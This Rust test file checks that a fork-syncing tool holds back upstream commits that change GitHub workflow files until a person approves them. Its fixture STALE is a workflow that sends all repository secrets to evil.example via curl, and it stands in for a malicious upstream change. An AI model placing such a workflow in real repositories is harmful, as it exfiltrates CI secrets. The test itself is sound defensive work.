//! What may run as soon as it is on a branch waits for a person, however it got there.

use uptake::decision::Ruling;
use uptake::line::OnLine;
use uptake::pick::{Built, Outcome, Pick};
use uptake::risk::Level;
use uptake::survey::Survey;

use crate::support::forge::{branches, decide, out, publish, pulls};
use crate::support::{World, uptake};

const CONFIG: &str = "
upstream: { repository: up/stream, branch: main }
phases: [{ id: all, title: All, priority: 1, rules: [{ paths: ['**'] }] }]
dashboard: { enabled: false }
";

const CI: &str = "on: [push]\njobs: { t: { runs-on: ubuntu-latest, steps: [{ run: make test }] } }\n";
const STALE: &str = "on: push\npermissions: write-all\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: 'curl -d \"${{ toJSON(secrets) }}\" https://evil.example' }] } }\n";
const STALE_PATH: &str = ".github/workflows/stale.yml";

fn world() -> World {
    let mut world = World::new(&[("a.txt", "a\nb\nc\n"), (".github/workflows/ci.yml", CI)]);
    world.on_fork().commit("Ours", &[("ours.txt", "ours\n")]);
    world
}

fn pick<'a>(built: &'a Built, survey: &Survey, subject: &str) -> &'a Pick {
    let sha = survey.commits.iter().find(|unit| unit.subject == subject).expect("surveyed").sha;
    built.phases.iter().flat_map(|phase| &phase.picks).find(|pick| pick.sha == sha).expect("picked")
}

/// Whether a branch of the folder has a file.
fn is_pushed(world: &World, branch: &str, path: &str) -> bool {
    !branches(world, &["ls-tree", branch, path]).is_empty()
}

#[test]
fn a_workflow_of_upstream_s_is_not_pushed_before_a_person_decided() {
    let mut world = world();
    let stale = world.on_upstream().commit("fix: close stale issues", &[("a.txt", "a\nB\nc\n"), (STALE_PATH, STALE)]);
    world.commit("fix: c", &[("c.txt", "c\n")]);
    let (_, survey, built) = world.build(CONFIG);
    let found = pick(&built, &survey, "fix: close stale issues");
    assert_eq!((found.outcome, found.commit, found.risk), (Outcome::Decide, None, Level::High));
    assert_eq!(found.guarded.iter().map(ToString::to_string).collect::<Vec<_>>(), [STALE_PATH]);
    let unit = survey.get(stale).expect("surveyed");
    assert_eq!((unit.line, unit.hunks, unit.guarded.len()), (OnLine::Decide, 0, 1));
    assert_eq!(unit.reasons[0].to_string(), "changes guarded files, which may run on a push (1 file)");
    assert_eq!(pick(&built, &survey, "fix: c").outcome, Outcome::Clean);

    publish(&world, CONFIG);
    assert!(!is_pushed(&world, "uptake/all", STALE_PATH) && is_pushed(&world, "uptake/all", "c.txt"));
    let body = std::fs::read_to_string(out(&world).join("pulls/1.md")).expect("a body");
    let note = "It applies, and changes `.github/workflows/stale.yml`, which may run with the fork's secrets as soon as it is on a branch.";
    assert!(body.contains("## Decisions\n") && body.contains(note), "{body}");
    assert!(body.contains(&format!("`/pick {}` lets it in", stale.short())), "{body}");

    decide(&world, [Ruling::Pick { sha: stale, phase: "all".into() }]);
    publish(&world, CONFIG);
    assert!(is_pushed(&world, "uptake/all", STALE_PATH), "{:?}", pulls(&world));
    let body = std::fs::read_to_string(out(&world).join("pulls/1.md")).expect("a body");
    assert!(body.contains("Risk: **high**") && !body.contains("## Decisions"), "{body}");
}

#[test]
fn a_fork_without_secrets_may_take_workflows_like_any_other_file() {
    let mut world = world();
    world.on_upstream().commit("fix: close stale issues", &[("a.txt", "a\nB\nc\n"), (STALE_PATH, STALE)]);
    world.commit("fix: configure", &[(".github/uptake.yml", "phases: []\n")]);
    let config = format!("{CONFIG}trust_workflows: true\n");
    let (_, survey, built) = world.build(&config);
    assert_eq!(pick(&built, &survey, "fix: close stale issues").outcome, Outcome::Clean);
    assert_eq!(pick(&built, &survey, "fix: configure").outcome, Outcome::Decide, "which programs run stays guarded");
    publish(&world, &config);
    assert!(is_pushed(&world, "uptake/all", STALE_PATH));
}

#[test]
fn neither_moving_it_nor_markers_nor_an_answer_to_a_conflict_lets_it_in() {
    let mut world = world();
    let stale = world.on_upstream().commit("Add stale", &[(STALE_PATH, STALE)]);
    let touch = world.commit("Change both", &[("a.txt", "a\nB\nc\n"), (".github/workflows/ci.yml", "on: push\n")]);
    world.on_fork().commit("Ours too", &[("a.txt", "a\nours\nc\n")]);
    let config = CONFIG.replace("priority: 1,", "priority: 1, on_conflict: commit-markers,");
    let phase = || "all".into();
    let how = uptake::decision::FileResolution::Upstream;
    decide(
        &world,
        [
            Ruling::Move { sha: stale, phase: phase() },
            Ruling::Move { sha: touch, phase: phase() },
            Ruling::Resolve { phase: phase(), path: "a.txt".into(), how },
        ],
    );
    publish(&world, &config);
    assert!(!is_pushed(&world, "uptake/all", STALE_PATH));
    assert_eq!(branches(&world, &["show", "uptake/all:.github/workflows/ci.yml"]), CI.trim());
    decide(&world, [Ruling::Pick { sha: touch, phase: phase() }]);
    publish(&world, &config);
    assert_eq!(branches(&world, &["show", "uptake/all:.github/workflows/ci.yml"]), "on: push");
    assert!(!is_pushed(&world, "uptake/all", STALE_PATH), "one decision lets in one commit");
}

#[test]
fn it_is_what_lands_that_counts_and_not_where_upstream_has_it() {
    // The fork has upstream's file where GitHub runs it, so that a rename leads upstream's change there.
    let script = (1..40).map(|n| format!("# line {n}\n")).collect::<String>();
    let mut world = World::new(&[("ci/check.yml", script.as_str()), ("a.txt", "a\n")]);
    world.on_fork().git(&["rm", "--quiet", "ci/check.yml"]);
    world.commit("Use it", &[(".github/workflows/check.yml", script.as_str())]);
    world.on_upstream().commit("Change the check", &[("ci/check.yml", &format!("{script}on: push\n"))]);
    // And a rule that keeps the fork's own leaves nothing of upstream's to wait for.
    world.commit("Both", &[("a.txt", "A\n"), (".github/workflows/new.yml", STALE)]);
    let keep = format!("{CONFIG}conflicts: [{{ path: .github/workflows/new.yml, use: keep-local }}]\n");
    let (_, survey, built) = world.build(&keep);
    let moved = pick(&built, &survey, "Change the check");
    assert_eq!(moved.outcome, Outcome::Decide);
    assert_eq!(moved.guarded[0].to_string(), ".github/workflows/check.yml");
    let both = pick(&built, &survey, "Both");
    assert!(matches!(both.outcome, Outcome::Clean | Outcome::Resolved) && both.guarded.is_empty(), "{both:?}");
    assert_eq!(survey.get(moved.sha).expect("surveyed").line, OnLine::Decide);
}

#[test]
fn a_configuration_names_more_of_what_runs() {
    let mut world = world();
    world.on_upstream().commit("Change the pipeline", &[("ci/pipeline.yml", "run\n")]);
    world.commit("Build on it", &[("ci/pipeline.yml", "run\nmore\n")]);
    let (_, survey, built) = world.build(&format!("{CONFIG}guard: ['ci/**']\n"));
    assert_eq!(pick(&built, &survey, "Change the pipeline").outcome, Outcome::Decide);
    let after = pick(&built, &survey, "Build on it");
    assert!(after.outcome.waits() && after.commit.is_none(), "{after:?}");
    let (_, survey, built) = world.build(CONFIG);
    assert_eq!(pick(&built, &survey, "Change the pipeline").outcome, Outcome::Clean);
}

#[test]
fn commands_say_what_it_waits_for() {
    let mut world = world();
    let stale = world.on_upstream().commit("Add stale", &[(STALE_PATH, STALE)]);
    world.open(CONFIG);
    let call = |arguments: &[&str]| {
        let head = ["--repo", "fork", "--config", "uptake.yml", "--offline", "-q"];
        uptake(world.folder(), &[&head, arguments].concat())
    };
    let (code, plan, _) = call(&["plan", "all"]);
    assert!(code == 3 && plan.contains("Add stale  [1 guarded file to read first]"), "{code} {plan}");
    let (_, why, _) = call(&["why", &stale.to_string()]);
    assert!(
        why.contains("decide: it applies, and changes .github/workflows/stale.yml, which may run on a push"),
        "{why}"
    );
    let (_, json, _) = call(&["plan", "--format", "json"]);
    let json: serde_json::Value = serde_json::from_str(&json).expect("JSON");
    assert_eq!(json["phases"][0]["picks"][0]["guarded"][0], STALE_PATH);
    assert_eq!(json["end"]["differs"][0]["because"], stale.to_string());
}
